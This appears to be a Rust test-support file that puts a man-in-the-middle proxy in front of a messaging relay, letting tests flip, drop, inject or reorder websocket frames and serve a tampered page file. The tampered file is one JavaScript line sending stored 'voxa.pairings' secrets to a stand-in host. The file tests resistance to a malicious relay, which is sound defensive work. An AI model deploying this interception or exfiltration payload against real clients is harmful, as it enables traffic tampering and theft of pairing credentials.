//! Men in the middle in front of a real relay, for the tests of sealed sessions against a
//! malicious relay: [`Mitm`] passes every frame of a phone's `/ws` socket through a [`Hook`] that
//! may flip, drop, inject or reorder it; [`altering_front`] serves one file of the page altered.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use futures_util::{SinkExt, StreamExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_tungstenite::tungstenite::Message;

use crate::support::harness::*;

/// Which way a frame crosses the proxy.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Way {
    /// Phone to agent.
    Up,
    /// Agent to phone.
    Down,
}

/// What the malicious relay does with each frame: the frames it passes on instead.
pub type Hook = Box<dyn FnMut(Way, Message) -> Vec<Message> + Send>;

/// A man in the middle in front of a relay: every phone connection to `/ws` has every frame both
/// ways through `hook` (all connections share it), and every frame as it arrived kept in
/// `capture`. Any other request (the page and its scripts) passes through untouched, so a browser
/// can load the page from it.
pub struct Mitm {
    pub addr: SocketAddr,
    pub capture: Arc<Mutex<Vec<(Way, Message)>>>,
}

/// The first bytes of a request on `tcp`, left unread.
async fn request_start(tcp: &TcpStream) -> Vec<u8> {
    let mut head = [0u8; 8];
    loop {
        let Ok(n) = tcp.peek(&mut head).await else { return Vec::new() };
        if n == 0 || n == head.len() {
            return head[..n].to_vec();
        }
        tokio::task::yield_now().await;
    }
}

impl Mitm {
    pub async fn start(relay: SocketAddr, code: &str, hook: Hook) -> Mitm {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let capture = Arc::new(Mutex::new(Vec::new()));
        let hook = Arc::new(Mutex::new(hook));
        let (kept, path) = (capture.clone(), format!("/ws?code={code}"));
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (kept, hook, path) = (kept.clone(), hook.clone(), path.clone());
                tokio::spawn(async move {
                    let Ok(mut upstream) = TcpStream::connect(relay).await else { return };
                    if request_start(&tcp).await != b"GET /ws?" {
                        let mut tcp = tcp;
                        let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
                        return;
                    }
                    Self::intercept(tcp, upstream, &format!("ws://{relay}{path}"), kept, hook).await;
                });
            }
        });
        Mitm { addr, capture }
    }

    async fn intercept(
        tcp: TcpStream,
        upstream: TcpStream,
        url: &str,
        kept: Arc<Mutex<Vec<(Way, Message)>>>,
        hook: Arc<Mutex<Hook>>,
    ) {
        let Ok(phone) = tokio_tungstenite::accept_async(tcp).await else { return };
        let Ok((relay_ws, _)) = tokio_tungstenite::client_async(url, upstream).await else { return };
        let (mut phone_tx, mut phone_rx) = phone.split();
        let (mut relay_tx, mut relay_rx) = relay_ws.split();
        loop {
            let (way, message) = tokio::select! {
                Some(Ok(message)) = phone_rx.next() => (Way::Up, message),
                Some(Ok(message)) = relay_rx.next() => (Way::Down, message),
                else => break,
            };
            kept.lock().unwrap().push((way, message.clone()));
            let passed = (hook.lock().unwrap())(way, message);
            for out in passed {
                let sent = match way {
                    Way::Up => relay_tx.send(out).await,
                    Way::Down => phone_tx.send(out).await,
                };
                if sent.is_err() {
                    return;
                }
            }
        }
    }

    /// A phone through this proxy that completed the sealed hello.
    pub(crate) async fn phone(&self, agent: &TestAgent) -> voxa::net::dial::ClientSocket {
        let mut phone = connect(&format!("ws://{}/ws?code={}", self.addr, agent.code())).await;
        let ok = say_hello(&mut phone, agent.token()).await;
        assert_eq!(ok["protocol"], 3, "{ok}");
        assert!(phone.is_sealed());
        phone
    }
}

/// `message` with one bit of its sixth byte flipped.
pub fn flip_one_bit(message: Message) -> Message {
    let mut data = message.into_data().to_vec();
    data[5] ^= 0x01;
    Message::binary(data)
}

/// A hook that drops the next sealed frame going up (phone to agent) once `armed`, and counts it.
pub fn drop_next_up(armed: Arc<AtomicBool>, dropped: Arc<AtomicUsize>) -> Hook {
    Box::new(move |way, message| {
        if way == Way::Up && message.is_binary() && armed.swap(false, Ordering::SeqCst) {
            dropped.fetch_add(1, Ordering::SeqCst);
            return vec![];
        }
        vec![message]
    })
}

/// A front for a relay that serves one file of the page altered and passes everything else on,
/// one request per connection (a kept-alive request is forwarded with `Connection: close`, so
/// every request passes through the front).
pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
    altering_front_for(relay, altered, |_| true).await
}

/// [`altering_front`] that alters the file only for requests whose head (lowercased) `asks_for`
/// says so, and passes the others on: a relay that shows its altered page to some clients only.
pub(crate) async fn altering_front_for(
    relay: std::net::SocketAddr,
    altered: &'static str,
    asks_for: fn(&str) -> bool,
) -> std::net::SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut tcp, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
                        return;
                    }
                    head.push(byte[0]);
                }
                if head.starts_with(format!("GET {altered} ").as_bytes())
                    && asks_for(&String::from_utf8_lossy(&head).to_ascii_lowercase())
                {
                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
                    let answer =
                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
                    let _ = tcp.write_all(answer.as_bytes()).await;
                    return;
                }
                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
                let text = String::from_utf8_lossy(&head);
                let head = if text.to_ascii_lowercase().contains("\r\nupgrade:") {
                    head
                } else {
                    let kept: Vec<&str> = text
                        .split("\r\n")
                        .filter(|line| !line.to_ascii_lowercase().starts_with("connection:"))
                        .collect();
                    kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1).into_bytes()
                };
                if upstream.write_all(&head).await.is_ok() {
                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
                }
            });
        }
    });
    addr
}
